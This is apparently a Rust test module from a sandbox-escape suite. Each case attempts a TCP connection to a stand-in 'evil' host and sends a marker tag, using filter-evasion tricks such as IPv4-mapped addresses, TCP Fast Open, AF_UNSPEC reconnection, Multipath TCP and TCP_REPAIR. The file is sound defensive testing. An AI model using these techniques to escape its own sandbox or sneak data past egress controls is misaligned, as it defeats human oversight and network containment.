//! TCP, and what calls itself TCP.

use std::net::{Ipv4Addr, SocketAddr};

use nix::errno::Errno;

use crate::escape::case::{Case, Refused, Targets, by};
use crate::escape::sys;
use crate::harness::network::{EVIL_V4, EVIL_V6, GOOD_V4};

type Result = std::result::Result<(), Refused>;

pub(super) const CASES: &[Case] = &[
    Case::new("tcp-v4", &["G00"], "TCP connect, IPv4.", |targets| {
        stream(
            libc::AF_INET,
            0,
            &sys::address(targets.at(EVIL_V4)),
            targets,
        )
    }),
    Case::new("tcp-v6", &["P21"], "TCP connect, IPv6.", |targets| {
        stream(
            libc::AF_INET6,
            0,
            &sys::address(targets.at(EVIL_V6)),
            targets,
        )
    }),
    Case::new(
        "tcp-v4-mapped",
        &["G03"],
        "TCP connect to `::ffff:a.b.c.d` on an IPv6 socket.",
        |targets| {
            stream(
                libc::AF_INET6,
                0,
                &sys::address(mapped(targets, EVIL_V4)),
                targets,
            )
        },
    ),
    Case::new(
        "tcp-v4-family-on-v6-socket",
        &["G03"],
        "TCP connect with an AF_INET address on an IPv6 socket.",
        |targets| {
            stream(
                libc::AF_INET6,
                0,
                &sys::address(targets.at(EVIL_V4)),
                targets,
            )
        },
    ),
    Case::new(
        "tcp-fastopen-v4",
        &["G01"],
        "TCP Fast Open by `sendto` with MSG_FASTOPEN, IPv4: no `connect` is called.",
        |targets| fastopen(libc::AF_INET, 0, targets.at(EVIL_V4), targets),
    ),
    Case::new(
        "tcp-fastopen-v6",
        &["G01"],
        "TCP Fast Open by `sendto` with MSG_FASTOPEN, IPv6.",
        |targets| fastopen(libc::AF_INET6, 0, targets.at(EVIL_V6), targets),
    ),
    Case::new(
        "tcp-fastopen-mapped",
        &["G01", "G03"],
        "TCP Fast Open to `::ffff:a.b.c.d` on an IPv6 socket.",
        |targets| fastopen(libc::AF_INET6, 0, mapped(targets, EVIL_V4), targets),
    ),
    Case::new(
        "tcp-fastopen-connect",
        &["G01"],
        "TCP_FASTOPEN_CONNECT: `connect` returns at once, the first write sends the SYN.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            sys::set_int(&socket, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, 1)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    ),
    Case::new(
        "tcp-reconnect-after-unspec",
        &["G03"],
        "Connect to the allowed host, dissolve by AF_UNSPEC, connect the same socket elsewhere.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            sys::connect(&socket, &sys::address(super::good_v4()))?;
            sys::connect(&socket, &[0; 16])?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    ),
    Case::new("mptcp-v4", &["G09"], "Multipath TCP, IPv4.", |targets| {
        stream(
            libc::AF_INET,
            MPTCP,
            &sys::address(targets.at(EVIL_V4)),
            targets,
        )
    }),
    Case::new("mptcp-v6", &["G09"], "Multipath TCP, IPv6.", |targets| {
        stream(
            libc::AF_INET6,
            MPTCP,
            &sys::address(targets.at(EVIL_V6)),
            targets,
        )
    }),
    Case::new(
        "mptcp-mapped",
        &["G03", "G09"],
        "Multipath TCP to `::ffff:a.b.c.d` on an IPv6 socket.",
        |targets| {
            stream(
                libc::AF_INET6,
                MPTCP,
                &sys::address(mapped(targets, EVIL_V4)),
                targets,
            )
        },
    ),
    Case::new(
        "mptcp-fastopen",
        &["G01", "G09"],
        "Multipath TCP with MSG_FASTOPEN.",
        |targets| fastopen(libc::AF_INET, MPTCP, targets.at(EVIL_V4), targets),
    ),
    Case::new(
        "tcp-allowed-host-other-port",
        &["P19"],
        "TCP to the allowed host, at a port that is not allowed.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            sys::connect(&socket, &sys::address(targets.at(GOOD_V4)))
        },
    ),
    Case::new(
        "tcp-repair",
        &["G01"],
        "TCP_REPAIR: a connection that is made without a handshake.",
        |targets| {
            let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
            sys::set_int(&socket, libc::IPPROTO_TCP, libc::TCP_REPAIR, 1)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::set_int(&socket, libc::IPPROTO_TCP, libc::TCP_REPAIR, 0)?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    )
    .stopped_by(&[by("capabilities", "setsockopt", Errno::EPERM)]),
];

const MPTCP: i32 = libc::IPPROTO_MPTCP;

/// The IPv4 address as an IPv6 socket knows it.
fn mapped(targets: &Targets, address: Ipv4Addr) -> SocketAddr {
    targets.at(address.to_ipv6_mapped())
}

/// Connects and says its mark.
fn stream(family: i32, protocol: i32, to: &[u8], targets: &Targets) -> Result {
    let socket = sys::socket(family, libc::SOCK_STREAM, protocol)?;
    sys::connect(&socket, to)?;
    sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
}

fn fastopen(family: i32, protocol: i32, to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(family, libc::SOCK_STREAM, protocol)?;
    let tag = targets.tag();
    let address = sys::address(to);
    match sys::sendto(&socket, tag.as_bytes(), libc::MSG_FASTOPEN, &address) {
        // The SYN is on its way; the data follows it.
        Err(Refused {
            errno: Errno::EINPROGRESS,
            ..
        }) => Ok(()),
        other => other.map(drop),
    }
}
